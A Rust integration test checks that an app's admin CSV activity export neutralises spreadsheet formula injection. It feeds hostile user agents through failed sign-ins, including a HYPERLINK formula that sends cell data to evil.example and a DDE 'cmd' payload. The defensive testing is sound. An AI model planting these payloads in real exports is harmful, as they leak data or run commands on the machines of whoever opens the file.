//! Exports (SPEC §6, OWASP CSV injection): a visitor-controlled text that reaches a CSV
//! export (here the user agent of a failed sign-in) never starts a cell with a character that
//! makes a spreadsheet run it as a formula; such a cell gets a leading `'`. SQLite and
//! PostgreSQL.

use crate::common::*;
use reqwest::header::HeaderValue;

db_tests!(the_activity_csv_never_starts_a_cell_with_a_formula);

/// User agents that a spreadsheet would run as formulas.
const HOSTILE_AGENTS: &[&str] = &[
    r#"=HYPERLINK("http://evil.example/?d="&A2,"x")"#,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    // Full-width equals sign (U+FF1D), which some programs read as `=`.
    "\u{FF1D}1+1",
];

/// What a cell must not start with (SPEC §6), ASCII and full-width.
const FORMULA_STARTS: &[char] = &[
    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

async fn the_activity_csv_never_starts_a_cell_with_a_formula(db: TestDb) {
    let app = spawn_app(db).await;
    for agent in HOSTILE_AGENTS {
        // Sent as raw bytes: a full-width character is not visible ASCII.
        let client = reqwest::Client::builder()
            .cookie_store(true)
            .redirect(reqwest::redirect::Policy::none())
            .user_agent(HeaderValue::from_bytes(agent.as_bytes()).unwrap())
            .build()
            .unwrap();
        let res = app.sign_in(&client, "alice", "not the password", "").await;
        assert!(
            location(&res).starts_with("/sign-in?error=1"),
            "a failed sign-in for {agent:?}"
        );
    }
    app.state
        .engine
        .users()
        .create("root", PASSWORD, true)
        .await
        .unwrap();
    let root = browser();
    let res = app.sign_in(&root, "root", PASSWORD, "/home").await;
    assert_eq!(res.status(), 303);

    let res = root
        .get(app.url("/admin/activity.csv?event=login_failed"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let body = res.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(body.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let agent_column = headers
        .iter()
        .position(|h| h == "user_agent")
        .expect("a user_agent column");
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), HOSTILE_AGENTS.len(), "{body}");
    for cell in headers.iter().chain(records.iter().flat_map(|r| r.iter())) {
        assert!(
            !cell.starts_with(FORMULA_STARTS),
            "a cell starts like a formula: {cell:?}\n{body}"
        );
    }
    let agents: Vec<&str> = records.iter().map(|r| &r[agent_column]).collect();
    for agent in HOSTILE_AGENTS {
        let escaped = format!("'{agent}");
        assert!(
            agents.contains(&escaped.as_str()),
            "{escaped:?} is in the export, text kept: {agents:?}"
        );
    }
}
